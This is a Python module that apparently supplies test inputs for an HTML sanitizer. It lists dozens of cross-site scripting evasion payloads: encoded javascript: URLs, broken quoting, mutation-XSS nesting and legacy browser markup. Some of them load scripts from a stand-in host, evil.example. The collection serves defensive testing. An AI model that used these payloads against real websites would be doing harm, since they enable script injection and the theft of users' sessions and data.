"""Attacks by the tricks that published lists of them name: disguised addresses, quotes that end
elsewhere, elements that a second parse moves, old browsers' own markup."""

ADDRESSES = [
    "<a href='jav&#x09;ascript:x()'>a</a>",
    "<a href='jav&#x0A;ascript:x()'>a</a>",
    "<a href='jav&#x0D;ascript:x()'>a</a>",
    "<a href=' &#14;  javascript:x()'>a</a>",
    "<a href='&#0000106&#0000097&#0000118&#0000097&#0000115cript:x()'>a</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72ipt:x()'>a</a>",
    "<a href='javascript&colon;x()'>a</a>",
    "<a href='javascript&#x3a;x()'>a</a>",
    "<a href='&#1;javascript:x()'>a</a>",
    "<a href='\u2028javascript:x()'>a</a>",
    "<a href='\u00a0javascript:x()'>a</a>",
    "<a href='java\u00adscript:x()'>a</a>",
    "<a href='//evil.example\\@good.example' onmouseover=x()>a</a>",
    "<a href='view-source:javascript:x()'>a</a>",
    "<a href='feed:javascript:x()'>a</a>",
    "<a href='jar:data:text/html,<script>x()</script>!/'>a</a>",
    "<a href='livescript:x()'>a</a><a href='mocha:x()'>b</a>",
    "<a href='data:text/html;charset=utf-7;base64,PHNjcmlwdD4='>a</a>",
    "<a xlink:href='javascript:x()' xml:base='javascript:'>a</a>",
    "<img lowsrc='javascript:x()' dynsrc='javascript:x()' longdesc='javascript:x()'>",
    "<img srcset='javascript:x() 1x, data:image/svg+xml,<svg onload=x()> 2x'>",
    "<table background='javascript:x()'><td background='javascript:x()'>a</table>",
    "<blockquote cite='javascript:x()'>a</blockquote><q cite='data:text/html,a'>b</q>",
    "<del cite='javascript:x()'>a</del><form action='javascript:x()'><button>b</button></form>",
]

QUOTES = [
    '<img """><script>x()</script>">',
    "<img src=`javascript:x('a, \"b\"')`>",
    '<a href="a`onmouseover=x()//">a</a>',
    '<script a=">" src=//evil.example></script>',
    "<script a='>' =\">\" b='>\"' src=//evil.example></script>",
    "<script <b>x()</script>",
    "<<script>x();//<</script>",
    "<a title='<img src=x onerror=x()>' href=#>a</a>",
    '<p title="--><img src=x onerror=x()>">a',
    "<img alt='`><img src=x onerror=x()>`' src=x>",
    '<p ="=" onclick=x() x=>a',
    "<img src=x onerror\x0b=x()>",
    "<img src=x onerror\x0c=x()>",
    "<\x00script>x()</script>",
    "<scr\x00ipt>x()</scr\x00ipt>",
    "<script\u2028>x()</script>",
]

SECOND_PARSES = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;b onclick=x()&gt;'>",
    "<math><mtext><mglyph><svg><mtext><textarea><a title='</textarea><img src=x onerror=x()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=x()>",
    "<svg><foreignobject><style><img title='</style><img src=x onerror=x()>'>",
    "<svg><desc><noembed><a title='</noembed><img src=x onerror=x()>'>",
    "<svg><title><xmp><p title='</xmp><img src=x onerror=x()>'></xmp></title></svg>",
    "<math><annotation-xml encoding='text/html'><style><img title='</style><img src onerror=x()>'>",
    "<select><style></select><img src=x onerror=x()></style>",
    "<select><iframe></select><img src=x onerror=x()>",
    "<table><caption><svg><title><table><caption></caption></table>"
    "<style><a id='</style><img src onerror=x()>'>",
    "<frameset><noframes><p title='</noframes><img src=x onerror=x()>'>",
    "<template><s><template><s><img src=x onerror=x()>@</s></template></s></template>",
    "<p><svg><p><style><!--</style><a title='--><img src=x onerror=x()>'>",
    "<plaintext><p title='</plaintext><img src=x onerror=x()>'>",
    "<listing>&lt;img src=x onerror=x()&gt;</listing>",
    "<xmp>&lt;/xmp&gt;<img src=x onerror=x()></xmp>",
    "&lt;img src=x onerror=x()&gt;<!-- &lt;img src=x onerror=x()&gt; -->",
    "<![CDATA[<img src=x onerror=x()>]]><svg><![CDATA[</svg><img src=x onerror=x()>]]>",
]

OLD_MARKUP = [
    "<xml id=x><i><b>&lt;img src=x onerror=x()&gt;</b></i></xml><b datasrc=#x datafld=b>a</b>",
    "<?import namespace='t' implementation='#default#time2'><t:set attributeName=innerHTML to='x'>",
    "<layer src=//evil.example></layer><ilayer src=//evil.example></ilayer>",
    "<bgsound src='javascript:x()'><br size='&{x()}'>",
    "<link rel=stylesheet href='javascript:x()'><link rel=import href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:x()'><base href='javascript:x()//'>",
    "<p style='width:expr/**/ession(x());behavior:url(#default#time2)'>a",
    "<p style='-moz-binding:url(//evil.example#x)'>a<p style='width:\\75 rl(javascript:x())'>b",
]

DISGUISES = [*ADDRESSES, *QUOTES, *SECOND_PARSES, *OLD_MARKUP]
